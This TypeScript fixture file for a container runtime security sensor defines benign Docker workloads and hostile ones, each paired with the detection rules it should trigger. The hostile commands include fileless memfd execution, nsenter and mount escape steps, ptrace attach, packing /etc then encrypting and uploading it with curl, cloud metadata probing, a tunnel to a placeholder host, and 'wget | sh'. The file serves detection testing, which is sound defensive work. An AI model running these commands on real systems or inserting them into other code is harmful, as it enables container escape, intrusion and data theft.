import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import type { DockerEngine } from './real/engine.ts'

/** Programs of this machine that the workloads' image has beside busybox. */
export const TOOLS = ['bash', 'openssl', 'tar', 'gzip', 'curl', 'perl', 'nsenter', 'unshare', 'mount']
export const TOOLS_IMAGE = 'test/tools:1'

/** Something that containers do, for the sensor to see. */
export interface Workload {
  readonly name: string
  /** Names of the rules that have to fire; none for what is benign. */
  readonly rules: readonly string[]
  /** Those that fire as well on what its recording does not say yet: which layer a program came from. */
  readonly live?: readonly string[]
  /** Runs it to its end. */
  readonly run: (docker: DockerEngine) => Promise<unknown>
}

/** The file of its recording, below the folder of recordings. */
export function recordingOf({ name, rules }: Workload): string {
  return `${rules.length === 0 ? 'benign' : 'hostile'}/${name.replaceAll(/[^a-z]+/g, '-')}.jsonl`
}

const shell = (docker: DockerEngine, name: string, script: string, ...options: readonly string[]) =>
  docker.docker('run', '--name', name, ...options, TOOLS_IMAGE, 'sh', '-c', script)

/** A container that waits, in which what follows is done as a person or a program in it would. */
async function within(
  docker: DockerEngine,
  name: string,
  options: readonly string[],
  act: () => Promise<unknown>,
): Promise<void> {
  await docker.docker('run', '-d', '--name', name, ...options, TOOLS_IMAGE, 'sleep', '300')
  try {
    await act()
  } finally {
    await docker.docker('rm', '-f', name)
  }
}

/** Numbers of system calls, which perl asks for by number. */
const CALLS = process.arch === 'arm64' ? { memfd: 279, ptrace: 117 } : { memfd: 319, ptrace: 101 }

/** A script of the image's own, so that no specification and no exec names what it runs. */
function script(name: string, text: string): string {
  return `printf '%s\\n' ${JSON.stringify(text)} > /opt-${name}; sh /opt-${name}`
}

/** What openssl's req needs of a configuration file. */
const SETTINGS = "printf '[req]\\ndistinguished_name=d\\n[d]\\n' > /o.cnf; export OPENSSL_CONF=/o.cnf"
const SERVE = 'mkdir -p /srv/pages && echo hello > /srv/pages/index.html && httpd -f -p 8080 -h /srv/pages'
const ROTATE = `mkdir -p /var/log/app; i=0
while [ $i -lt 5 ]; do i=$((i+1)); echo line $i >> /var/log/app/a.log; done
mv /var/log/app/a.log /var/log/app/a.log.1; gzip /var/log/app/a.log.1; : > /var/log/app/a.log`
const BUILD = `mkdir -p /job/src /job/out && cd /job
echo 'all: out/app' > Makefile
for f in a b c; do echo "echo $f" > src/$f.sh; done
cat src/*.sh > out/app && chmod +x out/app && ./out/app && sh out/app
tar -czf /job/app.tgz -C /job out && tar -tzf /job/app.tgz && sha256sum /job/app.tgz`
const UNPACK = `mkdir -p /pkg/usr/share/doc/x /pkg/opt/x && echo d > /pkg/usr/share/doc/x/README && echo c > /pkg/opt/x/conf
tar -C /pkg -czf /tmp/x.pkg . && mkdir -p /var/lib/pkg && tar -C / -xzf /tmp/x.pkg && rm /tmp/x.pkg
echo x 1.0 > /var/lib/pkg/status.new && mv /var/lib/pkg/status.new /var/lib/pkg/status`
const VERIFY = `cd /certs && openssl verify -CAfile ca.crt site.crt
openssl x509 -in site.crt -noout -enddate
openssl s_server -accept 4433 -cert site.crt -key site.key -www >/dev/null 2>&1 &
sleep 1; echo | openssl s_client -connect 127.0.0.1:4433 -CAfile ca.crt 2>/dev/null | openssl x509 -noout -subject; kill $!`

/** What ordinary containers do all day; nothing of it may raise anything. */
export const BENIGN: readonly Workload[] = [
  {
    name: 'a package that is unpacked',
    rules: [],
    run: (docker) => shell(docker, 'unpack', UNPACK),
  },
  {
    name: 'a web server with a health check, and its clients',
    rules: [],
    async run(docker) {
      await docker.docker('network', 'create', 'shop')
      await docker.docker(
        'run',
        '-d',
        '--name',
        'web',
        '--network',
        'shop',
        '--health-interval',
        '1s',
        '--health-cmd',
        'wget -q -O /dev/null http://127.0.0.1:8080/ || exit 1',
        TOOLS_IMAGE,
        'sh',
        '-c',
        SERVE,
      )
      await shell(docker, 'client', 'sleep 1; curl -fsS http://web:8080/', '--network', 'shop')
      await sleep(2_500)
      await docker.docker('rm', '-f', 'web')
    },
  },
  { name: 'a log that is rotated', rules: [], run: (docker) => shell(docker, 'rotate', ROTATE) },
  {
    name: 'a backup of a volume of its own',
    rules: [],
    async run(docker) {
      await docker.docker('volume', 'create', 'data')
      await shell(
        docker,
        'fill',
        'mkdir -p /data/base && head -c 200000 /dev/urandom > /data/base/1',
        '-v',
        'data:/data',
      )
      await shell(
        docker,
        'backup',
        'mkdir -p /backup && tar -czf /backup/data.tgz -C /data . && tar -tzf /backup/data.tgz && mkdir /restore && tar -xzf /backup/data.tgz -C /restore',
        '-v',
        'data:/data:ro',
      )
    },
  },
  {
    name: 'certificates that are verified, a server that reads its own key',
    rules: [],
    run: (docker) =>
      withFolder(async (folder) => {
        certificates(folder)
        await shell(docker, 'verify', VERIFY, '-v', `${folder}:/certs:ro`)
      }),
  },
  { name: 'a build', rules: [], run: (docker) => shell(docker, 'build', BUILD) },
  {
    name: 'a job with a project of the host, as a user of its own',
    rules: [],
    run: (docker) =>
      withFolder(async (folder) => {
        mkdirSync(join(folder, 'src'))
        writeFileSync(join(folder, 'src', 'index.html'), '<p>hello</p>')
        await shell(
          docker,
          'project',
          'mkdir -p /app/dist && sed s/hello/goodbye/ /app/src/index.html > /app/dist/index.html && cp -r /app/dist /tmp/dist && mv /app/dist/index.html /app/dist/start.html',
          '-v',
          `${folder}:/app`,
        )
      }),
  },
  {
    name: 'a person who looks around',
    rules: [],
    run: (docker) =>
      within(docker, 'looked', [], async () => {
        await docker.docker('exec', 'looked', 'sh', '-c', 'ps; ls -la /; cat /etc/hosts; env; df; id')
        await docker.docker('exec', 'looked', 'cat', '/proc/1/status')
      }),
  },
]

/** What intruders do, with the rules that have to say so. */
export const HOSTILE: readonly Workload[] = [
  {
    name: 'a key that a script reads',
    rules: ['private_key_opened'],
    run: (docker) =>
      shell(
        docker,
        'key',
        `mkdir -p /etc/nginx && head -c 32 /dev/urandom > /etc/nginx/tls.key; ${script('collect', 'cat /etc/nginx/tls.key | wc -c')}`,
      ),
  },
  {
    name: 'a root that a script adds to the trust store',
    rules: ['trust_store_written', 'trust_store_renamed', 'certificate_made_unannounced'],
    run: (docker) =>
      shell(
        docker,
        'root',
        `${SETTINGS}; mkdir -p /usr/local/share/ca-certificates; ${script('root', 'openssl req -x509 -newkey rsa:2048 -nodes -keyout /k -out /c -days 1 -subj /CN=x 2>/dev/null; cat /c > /usr/local/share/ca-certificates/x.crt; mv /c /usr/local/share/ca-certificates/y.crt')}`,
      ),
  },
  {
    name: 'a certificate made by a renamed tool',
    rules: ['certificate_by_renamed_tool', 'executed_from_writable_folder'],
    live: ['executed_outside_image'],
    run: (docker) =>
      shell(
        docker,
        'renamed',
        `${SETTINGS}; cp "$(command -v openssl)" /tmp/ossl; /tmp/ossl req -x509 -newkey rsa:2048 -nodes -keyout /k -out /c -days 1 -subj /CN=x`,
      ),
  },
  {
    name: 'a page of the host written by a program, another put in place by a rename',
    rules: ['host_content_file_written', 'host_content_file_renamed'],
    run: (docker) =>
      withFolder(async (folder) => {
        await shell(
          docker,
          'page',
          `perl -e 'open F,">/h/a.html";print F 1'; echo 2 > /h/x; mv /h/x /h/b.html`,
          '-v',
          `${folder}:/h`,
        )
      }, '/srv/www'),
  },
  {
    name: 'a unit of the host written by a script, another put in place by a rename',
    rules: ['host_persistence_written', 'host_persistence_renamed'],
    run: (docker) =>
      withFolder(async (folder) => {
        await shell(
          docker,
          'unit',
          'echo x > /h/a.service; echo y > /tmp/b; cp /tmp/b /h/b; mv /h/b /h/b.service',
          '-v',
          `${folder}:/h`,
        )
      }, '/run/systemd/system'),
  },
  {
    name: 'a program without a file',
    rules: ['executed_from_memory'],
    run: (docker) =>
      shell(
        docker,
        'memory',
        `perl -e '$n="x\\0";$f=syscall(${CALLS.memfd},$n,0);open(I,"<","/bin/busybox");binmode I;local $/;$d=<I>;open(O,">&=",$f);binmode O;syswrite O,$d;exec {"/proc/self/fd/$f"} "id"'`,
      ),
  },
  {
    name: 'a page rewritten by hand',
    rules: ['page_rewritten_from_within'],
    run: (docker) =>
      within(docker, 'pages', [], async () => {
        await docker.docker('exec', 'pages', 'mkdir', '-p', '/usr/share/nginx/html')
        await docker.docker(
          'exec',
          'pages',
          'bash',
          '-c',
          "echo 'echo owned > /usr/share/nginx/html/index.html' | sh",
        )
      }),
  },
  {
    name: 'namespaces entered and made, the kernel’s files mounted and opened',
    rules: [
      'host_power_used',
      'namespace_or_process_entered',
      'host_file_system_mounted',
      'process_hidden_by_mount',
      'user_namespace_made',
      'kernel_helper_written',
    ],
    run: (docker) =>
      shell(
        docker,
        'escape',
        // opened to append, and nothing is written
        'nsenter -t 1 -m true; mkdir /c /e; mount -t tracefs none /c; : >> /proc/sys/kernel/core_pattern; unshare -U true; sleep 30 & mount --bind /e /proc/$!; kill $!; true',
        '--privileged',
      ),
  },
  {
    name: 'another process taken over',
    rules: ['namespace_or_process_entered'],
    run: (docker) =>
      shell(
        docker,
        'seized',
        `sleep 30 & perl -e 'syscall(${CALLS.ptrace},0x4206,$ARGV[0]+0,0,0)' $!; kill $!; true`,
        '--cap-add',
        'SYS_PTRACE',
      ),
  },
  {
    name: 'a ring set up',
    rules: ['io_uring_set_up'],
    run: (docker) =>
      shell(
        docker,
        'ring',
        `perl -e '$p="\\0"x120;exit(syscall(425,8,$p)<0)'`,
        '--security-opt',
        'seccomp=unconfined',
      ),
  },
  {
    name: 'a shell below a server',
    rules: ['shell_below_a_server', 'program_written'],
    run: (docker) =>
      shell(
        docker,
        'served',
        `mkdir -p /usr/sbin; cp "$(command -v perl)" /usr/sbin/nginx; nginx -e 'system("sh","-c","id")'`,
        '-e',
        'PATH=/usr/sbin:/usr/bin:/bin',
      ),
  },
  {
    name: 'an engine that waits for clients, a tunnel',
    rules: ['runtime_listening', 'tunnel_started'],
    run: (docker) =>
      shell(
        docker,
        'listens',
        `mkdir -p /run /opt; perl -e 'socket(S,1,1,0);bind(S,pack("Sa*",1,"/run/docker.sock")) or die'; cp /bin/busybox /opt/chisel; /opt/chisel client https://c.example.org R:socks 2>/dev/null; true`,
      ),
  },
  {
    name: 'a route changed by a script',
    rules: ['packet_filter_changed_unannounced'],
    run: (docker) =>
      shell(
        docker,
        'route',
        script('route', '/bin/ip route add 203.0.113.0/24 dev lo'),
        '--cap-add',
        'NET_ADMIN',
      ),
  },
  {
    name: 'a key and the trust store of the host',
    rules: ['host_key_opened', 'host_trust_store_written'],
    run: (docker) =>
      withFolder(
        (keys) =>
          withFolder((roots) => {
            writeFileSync(join(keys, 'server.key'), 'x')
            return shell(
              docker,
              'host-key',
              `perl -e 'open K,"/k/server.key"'; perl -e 'open R,">/r/x.crt"'`,
              '-v',
              `${keys}:/k:ro`,
              '-v',
              `${roots}:/r`,
            )
          }, '/usr/local/share/ca-certificates'),
        '/var/lib/rancher/k3s',
      ),
  },
  {
    name: 'the engine asked through its socket',
    rules: ['runtime_socket_connected'],
    run: (docker) =>
      shell(
        docker,
        'socket',
        'curl -s --unix-socket /s http://x/containers/json',
        '-v',
        `${docker.socket}:/s`,
      ),
  },
  {
    name: 'the system packed, encrypted and sent',
    rules: ['packed_and_sent', 'system_folders_packed', 'file_sent_by_tool', 'encryption_tool_run'],
    run: (docker) =>
      shell(
        docker,
        'packed',
        'tar -czf /tmp/o.tgz /etc; openssl enc -aes-256-cbc -pbkdf2 -k x -in /tmp/o.tgz -out /tmp/o; curl -m 1 -sT /tmp/o http://127.0.0.1:9/; true',
      ),
  },
  {
    name: 'metadata, a kubelet and a share asked; data hidden in shared memory',
    rules: [
      'gathered_and_carried',
      'cloud_metadata_asked',
      'control_port_asked',
      'file_service_asked',
      'hidden_staging_written',
    ],
    run: (docker) =>
      shell(
        docker,
        'asked',
        'nc -w 1 169.254.169.254 80 </dev/null; nc -w 1 198.18.0.1 10250 </dev/null; nc -l -p 445 >/dev/null & sleep 1; nc -w 1 $(hostname -i) 445 </dev/null; mkdir /dev/shm/.c; echo x > /dev/shm/.c/p1; true',
      ),
  },
  {
    name: 'a weak cipher offered, the cryptographic settings changed',
    rules: ['weak_encryption_option', 'crypto_files_written', 'crypto_files_replaced'],
    run: (docker) =>
      shell(
        docker,
        'weak',
        "mkdir -p /etc/ssl; echo 'CipherString = ALL:@SECLEVEL=0' >> /etc/ssl/openssl.cnf; cp /etc/ssl/openssl.cnf /x; mv /x /etc/ssl/openssl.cnf; openssl ciphers 'ALL:@SECLEVEL=0' >/dev/null",
      ),
  },
  {
    name: 'a key that a program makes under a name that says nothing',
    rules: ['certificate_material_written'],
    run: (docker) =>
      shell(
        docker,
        'made',
        // the sensor looks a moment after the file is closed
        `mkdir -p /var/lib; perl -e 'open F,">/var/lib/z";print F "-----BEGIN PRIVATE KEY-----\\n","MIIEvQIBADANBgkqhkiG\\n" x 40'; sleep 3`,
      ),
  },
  {
    name: 'ports that are tried, a download that is run at once',
    rules: ['download_run', 'ports_tried'],
    run: (docker) =>
      shell(
        docker,
        'tried',
        "for p in $(seq 1 25); do nc -w 1 127.0.0.1 $p </dev/null; done; sh -c 'wget -q -O - http://127.0.0.1:1/x | sh'; true",
      ),
  },
]

/** Runs with a folder of the host's, made below another. */
export async function withFolder(run: (folder: string) => Promise<unknown>, below = '/srv'): Promise<void> {
  mkdirSync(below, { recursive: true })
  const folder = mkdtempSync(join(below, 'tallyman-'))
  try {
    await run(folder)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

/** An authority and a server's key and certificate. */
export function certificates(folder: string): void {
  const openssl = (...words: readonly string[]): void => {
    execFileSync('openssl', words, { cwd: folder, stdio: 'ignore' })
  }
  openssl(
    ...'req -x509 -newkey rsa:2048 -nodes -keyout ca.key -out ca.crt -days 2 -subj /CN=authority'.split(' '),
  )
  openssl(...'req -new -newkey rsa:2048 -nodes -keyout site.key -out site.csr -subj /CN=site'.split(' '))
  openssl(
    ...'x509 -req -in site.csr -CA ca.crt -CAkey ca.key -CAcreateserial -out site.crt -days 2'.split(' '),
  )
}
